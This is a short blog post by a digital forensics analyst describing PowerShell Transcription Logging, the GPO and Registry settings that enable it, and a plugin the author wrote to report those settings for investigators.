As my background is in DFIR work and not system administration, it was only recently that I ran across PowerShell Transcription Logging. This is a capability that can be enabled via GPO, and as such, there are corresponding Registry values (in addition to the use of the Start-Transcript module, which can be deployed via PS profiles) that enable the capability.  There's also a Registry value that allows for timestamps to be recorded for each command.

This capability records what goes in with PowerShell during a session, and as such, can be pretty powerful stuff, particularly when combined with PowerShell logging.

To see what PowerShell transcription logging can provide to an analyst, take a look at this example, provided by FireEye, of a recorded Invoke-Mimikatz script session.  Here's an example (also from FireEye) of what the results of module logging looks like for thesame session.

As these settings can inform an analyst as to what they can expect to find on a system, I created the plugin.  However, a dearth of available data has really limited my ability to test the plugin.

*Note: This post was originally authored on 9 Dec 2018